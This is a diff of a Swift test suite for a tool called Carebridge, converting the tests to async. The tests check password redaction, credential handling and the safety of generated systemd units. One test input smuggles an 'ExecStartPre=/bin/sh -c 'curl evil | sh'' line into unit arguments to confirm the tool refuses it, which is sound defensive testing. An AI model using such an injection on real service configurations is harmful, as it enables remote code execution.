@@ -11,9 +11,9 @@ import Testing
 
     init() throws { scratch = try ScratchDirectory("secrets-") }
 
-    @Test func aPasswordInTheURLIsNeverPrintedAndDrawsAWarning() throws {
+    @Test func aPasswordInTheURLIsNeverPrintedAndDrawsAWarning() async throws {
         let dir = scratch.url
-        let result = try CarebridgeProcess.run([
+        let result = try await CarebridgeProcess.run([
             "replay", "--store", dir.appendingPathComponent("s.sqlite").path, "--mqtt-wait", "0.5",
             "--mqtt", "mqtt://bridge:hunter2@127.0.0.1:1", Self.recording,
         ])
@@ -23,9 +23,9 @@ import Testing
         #expect(result.stderr.contains("visible") || result.stderr.contains("`ps`"), "\(result.stderr)")
     }
 
-    @Test func aMalformedURLWithAPasswordIsRedactedInTheError() throws {
+    @Test func aMalformedURLWithAPasswordIsRedactedInTheError() async throws {
         let dir = scratch.url
-        let result = try CarebridgeProcess.run([
+        let result = try await CarebridgeProcess.run([
             "replay", "--store", dir.appendingPathComponent("s.sqlite").path, "--mqtt",
             "mqtt://bridge:hunter2@host:99999", Self.recording,
         ])
@@ -34,7 +34,7 @@ import Testing
         #expect(result.stderr.contains("***"), "\(result.stderr)")
     }
 
-    @Test func thePasswordFileAndTheEnvironmentVariableSilenceTheWarning() throws {
+    @Test func thePasswordFileAndTheEnvironmentVariableSilenceTheWarning() async throws {
         let dir = scratch.url
         let file = dir.appendingPathComponent("password").path
         try "hunter2\n".write(toFile: file, atomically: true, encoding: .utf8)
@@ -49,7 +49,7 @@ import Testing
                     encoding: .utf8
                 )
             }
-            let result = try CarebridgeProcess.run(
+            let result = try await CarebridgeProcess.run(
                 [
                     "replay", "--store", dir.appendingPathComponent("\(UUID().uuidString).sqlite").path,
                     "--mqtt-wait", "0.2", "--mqtt", "mqtt://bridge@127.0.0.1:1",
@@ -60,15 +60,15 @@ import Testing
             #expect(!result.stderr.contains("`ps`"), "\(arguments) \(environment): \(result.stderr)")
             #expect(!result.stderr.contains("hunter2"))
         }
-        let missing = try CarebridgeProcess.run([
+        let missing = try await CarebridgeProcess.run([
             "replay", "--store", dir.appendingPathComponent("m.sqlite").path, "--mqtt", "mqtt://bridge@127.0.0.1:1",
             "--mqtt-password-file", dir.appendingPathComponent("nope").path, Self.recording,
         ])
         #expect(missing.status == 66, "\(missing.stderr)")
     }
 
-    @Test func systemdUnitAcceptsArgumentsThatStartWithDashesAndQuotesEachWord() throws {
-        let result = try CarebridgeProcess.run([
+    @Test func systemdUnitAcceptsArgumentsThatStartWithDashesAndQuotesEachWord() async throws {
+        let result = try await CarebridgeProcess.run([
             "systemd-unit", "--arguments", #"--store "/var/lib/care bridge/50%.sqlite" --plan /etc/cb/$plan.json"#,
         ])
         #expect(result.status == 0, "\(result.stderr)")
@@ -85,15 +85,15 @@ import Testing
         "--store /x.sqlite\nExecStartPre=/bin/sh -c 'curl evil | sh'", "--store /x\r", "--store /x\u{1B}[2J",
         "--store '/x", "--mqtt mqtt://bridge:hunter2@broker", "--mqtt=mqtt://u:p@broker",
     ])
-    func systemdUnitRefusesNewlinesControlCharactersAndPasswords(arguments: String) throws {
-        let result = try CarebridgeProcess.run(["systemd-unit", "--arguments", arguments])
+    func systemdUnitRefusesNewlinesControlCharactersAndPasswords(arguments: String) async throws {
+        let result = try await CarebridgeProcess.run(["systemd-unit", "--arguments", arguments])
         #expect(result.status == 64, "\(result.stdout)")
         #expect(!result.stdout.contains("ExecStartPre"))
         #expect(!result.stderr.contains("hunter2"))
     }
 
-    @Test func systemdUnitLoadsTheMQTTPasswordAsACredential() throws {
-        let result = try CarebridgeProcess.run([
+    @Test func systemdUnitLoadsTheMQTTPasswordAsACredential() async throws {
+        let result = try await CarebridgeProcess.run([
             "systemd-unit", "--arguments", "--store /var/lib/carebridge/store.sqlite --mqtt mqtt://bridge@broker",
             "--mqtt-credential", "/etc/carebridge/mqtt-password",
         ])
@@ -102,7 +102,7 @@ import Testing
         #expect(result.stdout.contains("--mqtt mqtt://bridge@broker"))
     }
 
-    @Test func redactSaysPayloadsAreKeptAndWarnsWhenAProfileMatchesByName() throws {
+    @Test func redactSaysPayloadsAreKeptAndWarnsWhenAProfileMatchesByName() async throws {
         let dir = scratch.url
         let input = dir.appendingPathComponent("and.jsonl").path
         try """
@@ -110,14 +110,14 @@ import Testing
         {"t": 0.4, "kind": "advertisement", "device": "C4:7C:8D:6A:3E:10", "name": "A&D_UC-352BLE_1A2B", "serviceUUIDs": ["181D"]}
 
         """.write(toFile: input, atomically: true, encoding: .utf8)
-        let redacted = try CarebridgeProcess.run([
+        let redacted = try await CarebridgeProcess.run([
             "recording", "redact", input, "--out", dir.appendingPathComponent("out.jsonl").path,
         ])
         #expect(redacted.status == 0, "\(redacted.stderr)")
         #expect(redacted.stderr.contains("payloads are kept"), "\(redacted.stderr)")
         #expect(redacted.stderr.contains("--keep-names"), "\(redacted.stderr)")
         #expect(!redacted.stderr.contains("1A2B"), "the warning names the profile, not the device")
-        let kept = try CarebridgeProcess.run([
+        let kept = try await CarebridgeProcess.run([
             "recording", "redact", input, "--keep-names", "--out", dir.appendingPathComponent("kept.jsonl").path,
         ])
         #expect(!kept.stderr.contains("--keep-names"), "\(kept.stderr)")
